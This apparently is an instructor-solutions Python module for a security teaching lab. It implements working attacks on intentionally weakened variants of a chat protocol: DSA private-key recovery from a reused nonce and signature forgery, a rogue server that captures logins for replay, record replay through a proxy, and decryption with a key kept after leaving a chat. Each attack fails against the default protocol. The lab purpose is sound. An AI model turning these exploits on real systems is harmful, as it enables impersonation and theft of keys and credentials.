"""INSTRUCTOR SOLUTIONS: the attacks on the lab variants (PROTOCOL.md 16), as working code.

Owns one attack per weakening, each written against the real protocol objects and sockets:

* ``recover_dsa_key`` / ``forge_dsa_signature`` — two DSA signatures that share ``r`` (dsa-nonce-reuse) give
  the signer's private key; with it anything can be signed as the victim.
* ``LoginCatcher`` / ``replay_login`` — a server the victim logs into (a rogue or phishing server; an unpinned
  client connects to one without noticing) captures the login; with unbound-login the captured proof logs in
  to the real server as the victim.
* ``read_after_leave`` — with no-rekey-on-leave, the key a member held before leaving still opens what the
  remaining members send afterwards.

Every function raises ``AttackFailed`` (with the reason) when the target is not weakened: the same code run
against a default server and client fails, which the tests check. Must not: be imported by securechat itself.
"""

from __future__ import annotations

import os
import threading
from collections.abc import Iterator
from contextlib import contextmanager
from dataclasses import dataclass, field

from ..crypto import aead
from ..crypto.encoding import sha256
from ..crypto.keys import load_public_key
from ..crypto.signatures import SignatureScheme, verify
from ..errors import SecureChatError
from ..net.tcp_server import TcpServer
from ..protocol import events as ev
from ..protocol import messages as m
from ..protocol.client import ClientProtocol
from ..protocol.codec import decode_message
from ..protocol.constructions import chat_header, sender_key
from ..protocol.jobs import ServerKey
from ..protocol.limits import ServerConfig
from ..protocol.registry import Registry
from .proxy import InterceptionProxy, Rule


class AttackFailed(Exception):
    """The target resisted: it is not the weakened variant (or the inputs do not fit the attack)."""


# --- dsa-nonce-reuse ---------------------------------------------------------------------------------------


def _der_integers(signature: bytes) -> tuple[int, int]:
    """(r, s) of a DER ``SEQUENCE { INTEGER r, INTEGER s }`` (short-form lengths: DSA-2048/256 fits)."""
    if len(signature) < 8 or signature[0] != 0x30 or signature[1] != len(signature) - 2:
        raise AttackFailed("not a DER DSA signature")
    out, i = [], 2
    for _ in range(2):
        if signature[i] != 0x02:
            raise AttackFailed("not a DER DSA signature")
        n = signature[i + 1]
        out.append(int.from_bytes(signature[i + 2:i + 2 + n], "big"))
        i += 2 + n
    return out[0], out[1]


def _der_signature(r: int, s: int) -> bytes:
    def integer(v: int) -> bytes:
        body = v.to_bytes(v.bit_length() // 8 + 1, "big")  # a leading 0x00 keeps it positive
        while len(body) > 1 and body[0] == 0 and body[1] < 0x80:
            body = body[1:]
        return b"\x02" + bytes([len(body)]) + body
    content = integer(r) + integer(s)
    return b"\x30" + bytes([len(content)]) + content


def _h(data: bytes, q: int) -> int:
    return int.from_bytes(sha256(data)[: (q.bit_length() + 7) // 8], "big")


def recover_dsa_key(public_der: bytes, first: tuple[bytes, bytes], second: tuple[bytes, bytes]) -> int:
    """The private key x of *public_der* from two (signed bytes, signature) pairs made with one nonce.

    Raises AttackFailed when the two signatures do not share r (a fresh nonce each time: the default).
    """
    key = load_public_key(public_der)
    p, q, g, y = (int(getattr(key, c)) for c in ("p", "q", "g", "y"))
    (m1, sig1), (m2, sig2) = first, second
    (r1, s1), (r2, s2) = _der_integers(sig1), _der_integers(sig2)
    if r1 != r2:
        raise AttackFailed("the two signatures use different nonces (r differs): nothing to recover")
    h1, h2 = _h(m1, q), _h(m2, q)
    if (s1 - s2) % q == 0:
        raise AttackFailed("the two signatures are of the same message")
    k = (h1 - h2) * pow(s1 - s2, -1, q) % q
    x = (s1 * k - h1) * pow(r1, -1, q) % q
    if pow(g, x, p) != y:
        raise AttackFailed("recovered value is not the private key")
    return x


def forge_dsa_signature(public_der: bytes, x: int, data: bytes) -> bytes:
    """A DSA signature over *data* with the recovered private key *x*; it verifies under *public_der*."""
    key = load_public_key(public_der)
    p, q, g = (int(getattr(key, c)) for c in ("p", "q", "g"))
    while True:
        k = 2 + int.from_bytes(os.urandom(40), "big") % (q - 3)
        r = pow(g, k, p) % q
        s = pow(k, -1, q) * (_h(data, q) + x * r) % q
        if r and s:
            break
    signature = _der_signature(r, s)
    verify(SignatureScheme.DSA_SHA256, key, data, signature)  # raises if the forgery were wrong
    return signature


def signatures_from_trace(entries: list[ev.TraceEntry], sender: str) -> list[m.ChatMessage]:
    """The chat_message frames from *sender* that a member's client received (its trace of inner frames)."""
    out = []
    for entry in entries:
        if entry.direction == "receive" and entry.layer == "inner":
            message = decode_message(entry.data)
            if isinstance(message, m.ChatMessage) and message.sender == sender:
                out.append(message)
    return out


# --- unbound-login (and unpinned-client) --------------------------------------------------------------------


@dataclass
class CapturedLogin:
    username: str
    password: str
    signature: bytes


@dataclass
class LoginCatcher:
    """A real securechat server run by the attacker that keeps every login frame it receives."""

    server: TcpServer
    logins: list[CapturedLogin] = field(default_factory=list)
    _lock: threading.Lock = field(default_factory=threading.Lock)

    def record(self, entry: ev.TraceEntry) -> None:
        if entry.direction == "receive" and entry.layer == "inner" and entry.type == "login":
            message = decode_message(entry.data)
            if isinstance(message, m.Login):
                with self._lock:
                    self.logins.append(CapturedLogin(message.username, message.password, message.signature))

    def captured(self) -> list[CapturedLogin]:
        with self._lock:
            return list(self.logins)


@contextmanager
def login_catcher(registry: Registry, server_key: ServerKey, config: ServerConfig) -> Iterator[LoginCatcher]:
    """Run a LoginCatcher on 127.0.0.1, a free port; stopped on exit."""
    holder: list[LoginCatcher] = []
    server = TcpServer(server_key=server_key, registry=registry, config=config,
                       trace=lambda e: holder[0].record(e) if holder else None)
    catcher = LoginCatcher(server=server)
    holder.append(catcher)
    server.start()
    try:
        yield catcher
    finally:
        server.stop()


class _ProofReplayer(ClientProtocol):
    """A client that sends a login whose password and signature it did not make (the attacker's client)."""

    def replay_login(self, login: CapturedLogin) -> int:
        return self.link.request(m.Login(rid=self.link.next_rid, username=login.username, password=login.password,
                                         signature=login.signature))


def replay_login(host: str, port: int, login: CapturedLogin, *, server_key: tuple[bytes, str] | None,
                 timeout: float = 20.0) -> str:
    """Log in to the real server with a captured proof; returns the username on success.

    Raises AttackFailed with the server's answer when the login is refused (a proof bound to another channel).
    """
    import socket
    import time

    answers: list[m.Message] = []

    def watch(entry: ev.TraceEntry) -> None:  # the attacker has no keys to finish the login: read the answer
        if entry.direction == "receive" and entry.layer == "inner":
            answers.append(decode_message(entry.data))

    client = _ProofReplayer(server_key=server_key, trace=watch)
    deadline = time.monotonic() + timeout
    with socket.create_connection((host, port), timeout=timeout) as sock:
        client.connect()
        sock.sendall(client.data_to_send())
        sent = False
        while time.monotonic() < deadline:
            sock.settimeout(max(0.05, deadline - time.monotonic()))
            data = sock.recv(65536)
            try:
                client.receive_data(data, time.time())
            except AssertionError:
                pass  # our client object cannot check a certificate for keys it does not hold
            for answer in answers:
                if isinstance(answer, m.LoginOk):
                    return answer.username
                if isinstance(answer, m.Error):
                    raise AttackFailed(f"the server refused the replayed login: {answer.message}")
            while (event := client.next_event()) is not None:
                if isinstance(event, ev.HandshakeCompleted) and not sent:
                    client.replay_login(login)
                    sent = True
                elif isinstance(event, ev.ConnectionClosed):
                    raise AttackFailed(f"connection closed: {event.message}")
            sock.sendall(client.data_to_send())
            if not data:
                break
    raise AttackFailed("no answer to the replayed login")


# --- no-replay-window ------------------------------------------------------------------------------------


def replay_next_record(proxy: InterceptionProxy, direction: str = "c2s") -> int:
    """Arm *proxy* to send the newest connection's next record of *direction* twice; returns its number.

    Against no-replay-window the server runs the command in that record a second time (a second chat_open
    opens a second chat); the default server closes the connection with ``bad_record`` (PROTOCOL.md 5.2).
    """
    index = proxy.records_seen(direction)
    proxy.add_rule(Rule(direction, index, "replay"))
    return index


# --- no-rekey-on-leave --------------------------------------------------------------------------------------


@dataclass(frozen=True)
class KeptKey:
    """What a member copies before it leaves: the chat's key, epoch and suite."""

    chat_id: str
    epoch: int
    suite: str
    key: bytes


def keep_key(client: ClientProtocol, chat_id: str) -> KeptKey:
    """Copy the current key of *chat_id* out of our own client before leaving (a modified client would)."""
    chat = client.book.chats.get(chat_id) if client.book is not None else None
    if chat is None or not chat.key:
        raise AttackFailed("no key for that chat yet")
    return KeptKey(chat_id=chat_id, epoch=chat.epoch, suite=chat.suite, key=chat.key)


def read_after_leave(kept: KeptKey, message: m.ChatMessage) -> str:
    """Decrypt *message* (sent after we left) with the key we kept. AttackFailed when the chat was rekeyed."""
    if message.chat_id != kept.chat_id:
        raise AttackFailed("message of another chat")
    header = chat_header(chat_id=message.chat_id, epoch=message.epoch, sender=message.sender, seq=message.seq,
                         suite=kept.suite)
    key = sender_key(kept.key, chat_id=message.chat_id, epoch=message.epoch, sender=message.sender)
    try:
        plaintext = aead.unseal(key, message.ciphertext, aad=header, nonce=aead.nonce_from_counter(message.seq),
                                suite=aead.CipherSuite(kept.suite))
    except (SecureChatError, ValueError):
        raise AttackFailed(f"epoch {message.epoch} is not under the key of epoch {kept.epoch}: the chat was "
                           "rekeyed when we left") from None
    return plaintext.decode("utf-8", errors="replace")


__all__ = ["AttackFailed", "CapturedLogin", "KeptKey", "LoginCatcher", "forge_dsa_signature", "keep_key", "login_catcher",
           "read_after_leave", "recover_dsa_key", "replay_login", "replay_next_record", "signatures_from_trace"]
